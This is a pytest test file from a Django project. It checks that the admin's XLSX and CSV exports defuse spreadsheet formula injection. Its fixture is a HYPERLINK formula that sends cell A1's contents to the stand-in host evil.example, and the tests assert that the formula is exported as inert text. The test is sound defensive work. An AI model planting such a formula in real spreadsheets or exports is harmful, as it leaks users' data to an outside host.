"""Formula injection through the admin's django-import-export exports (issue 14, item 20)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from .factories import make_collective, unit

pytestmark = pytest.mark.django_db

EXPORT_URL = "/quan-tri/models_registry/collective/export/"
NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


def export(client, title):
    form = client.get(EXPORT_URL).context["form"]
    formats = {label: value for value, label in form.fields["format"].choices}
    # Every column ticked, as the admin's form has them by default.
    columns = {name: "on" for name in form.fields if name.startswith("collectiveresource_")}
    return client.post(EXPORT_URL, {"format": formats[title], "resource": "0", **columns})


def test_an_xlsx_export_writes_no_formula(admin_client):
    make_collective(unit("01891"), name=NAME)
    response = export(admin_client, "xlsx")
    ws = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in ws.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
    assert len(cells) == 1
    assert cells[0].data_type == "s"
    assert not str(cells[0].value).startswith("=")


def test_a_csv_export_has_no_cell_starting_with_equals(admin_client):
    make_collective(unit("01891"), name=NAME)
    response = export(admin_client, "csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert names == ['HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")']
